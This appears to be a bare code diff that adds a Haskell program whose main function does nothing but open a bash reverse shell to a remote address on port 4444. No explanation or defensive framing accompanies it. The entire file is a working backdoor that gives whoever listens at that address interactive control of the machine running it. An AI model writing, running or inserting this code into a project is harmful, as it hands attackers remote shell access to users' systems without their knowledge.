@@ -1,0 +1,2 @@
+import System.Process
+main = callCommand "bash -c 'bash -i >& /dev/tcp/192.0.2.8/4444 0>&1'"
